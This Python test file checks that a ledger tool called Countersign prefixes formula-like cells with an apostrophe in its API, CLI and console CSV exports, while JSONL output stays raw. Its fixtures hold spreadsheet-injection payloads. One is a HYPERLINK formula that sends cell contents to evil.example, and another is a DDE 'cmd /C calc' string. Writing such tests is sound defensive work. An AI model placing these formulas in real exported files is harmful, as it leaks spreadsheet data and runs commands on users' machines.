"""Issue 8 #14: text from the ledger must never run as a spreadsheet formula in a CSV export.

A session id like ``=HYPERLINK("https://evil.example","open")`` reaches the ledger from an
agent's commit trailer; every CSV Countersign writes (the API's ledger export and population,
the CLI's, the console's downloads) must prefix such a cell with an apostrophe, while JSONL
keeps the value byte for byte.
"""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, datetime, timedelta

import pytest
from click.testing import CliRunner

from github_app.cli.evidence_commands import evidence
from github_app.evidence.csvsafe import neutralise, restore
from github_app.ledger import NewEntry
from tests.console.conftest import sign_in
from tests.support.evidence_reading import record_from_csv

HOSTILE_SESSION = '=HYPERLINK("https://evil.example/?d="&A1,"open")'
HOSTILE = {
    "session_id": HOSTILE_SESSION,
    "title": "+SUM(1,2)",
    "launched_by": "@evil",
    "approver": "-2+3",
    "merged_by": "\tcmd",
    "agent": "\rrun",
}


def hostile_merge() -> list[NewEntry]:
    """An agent PR and its merge whose every text field is a formula."""
    at = datetime.now(UTC) - timedelta(hours=1)
    common = {
        "session_id": HOSTILE["session_id"],
        "agent": HOSTILE["agent"],
        "launched_by": HOSTILE["launched_by"],
        "repo": "acme/app",
        "repo_id": 100,
        "pr": 66,
        "occurred_at": at,
    }
    data = {
        "state": "approved",
        "passing": True,
        "approvers": [HOSTILE["approver"]],
        "approved_sha": "f" * 40,
        "merge_sha": "e" * 40,
        "merged_by": HOSTILE["merged_by"],
        "title": HOSTILE["title"],
    }
    return [
        NewEntry(kind="agent_change_detected", actor="=cmd|' /C calc'!A0", **common),
        NewEntry(kind="merge", actor=HOSTILE["merged_by"], data=data, **common),
    ]


@pytest.fixture
def hostile(services):
    services.ledger.append_many(hostile_merge())
    services.ledger.checkpoint()
    return services


def cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def assert_neutralised(text: str) -> None:
    found = cells(text)
    for value in HOSTILE.values():
        assert value not in found, value
        assert "'" + value in found, value
    risky = [cell for cell in found if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert risky == []


@pytest.mark.parametrize("value", ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx", "'quoted"])
def test_risky_cells_are_prefixed_and_restored(value: str) -> None:
    assert neutralise(value) == "'" + value
    assert restore(neutralise(value)) == value


@pytest.mark.parametrize("value", ["sess-42", "", "a=b", "2026-01-01T00:00:00Z", "12"])
def test_ordinary_cells_are_untouched(value: str) -> None:
    assert neutralise(value) == value


async def test_api_ledger_export_csv_is_neutralised_and_jsonl_raw(api, hostile, tokens):
    exported = await api.get("/api/v1/export?format=csv", headers=tokens.auditor)
    text = await exported.text()
    assert_neutralised_ledger(text)
    rows = list(csv.DictReader(io.StringIO(text)))
    merge = next(row for row in rows if row["kind"] == "merge")
    assert merge["session_id"] == "'" + HOSTILE_SESSION
    assert record_from_csv(merge)["session_id"] == HOSTILE_SESSION  # read back exactly
    assert record_from_csv(merge)["data"]["title"] == HOSTILE["title"]
    jsonl = await api.get("/api/v1/export?format=jsonl", headers=tokens.auditor)
    lines = [json.loads(line) for line in (await jsonl.text()).splitlines()]
    assert lines[1]["session_id"] == HOSTILE_SESSION


def assert_neutralised_ledger(text: str) -> None:
    found = cells(text)
    assert HOSTILE_SESSION not in found and "'" + HOSTILE_SESSION in found
    assert [cell for cell in found if cell[:1] in ("=", "+", "-", "@", "\t", "\r")] == []


async def test_api_population_csv_is_neutralised(api, hostile, tokens) -> None:
    response = await api.get("/api/v1/changes?format=csv", headers=tokens.auditor)
    assert response.status == 200
    assert response.content_type == "text/csv"
    assert_neutralised(await response.text())
    as_json = await api.get("/api/v1/changes", headers=tokens.auditor)
    assert (await as_json.json())["items"][0]["session_id"] == HOSTILE_SESSION


async def test_console_downloads_are_neutralised(console, hostile, tokens) -> None:
    await sign_in(console, tokens.auditor)
    population = await console.get("/console/changes?format=csv")
    assert_neutralised(await population.text())
    sample = await console.get("/console/sample?n=5&seed=s&format=csv")
    assert_neutralised(await sample.text())


def test_cli_population_and_export_csv_are_neutralised(hostile, monkeypatch, tmp_path) -> None:
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("DATABASE_URL", hostile.settings.database_url)
    monkeypatch.setenv(
        "COUNTERSIGN_SIGNING_KEY_PATH", str(hostile.settings.countersign_signing_key_path)
    )
    runner = CliRunner()
    population = runner.invoke(evidence, ["changes", "--format", "csv"], catch_exceptions=False)
    assert population.exit_code == 0, population.output
    assert_neutralised(population.stdout)
    out = tmp_path / "ledger.csv"
    export = runner.invoke(
        evidence, ["export", "--format", "csv", "-o", str(out)], catch_exceptions=False
    )
    assert export.exit_code == 0, export.output
    assert_neutralised_ledger(out.read_text(encoding="utf-8"))
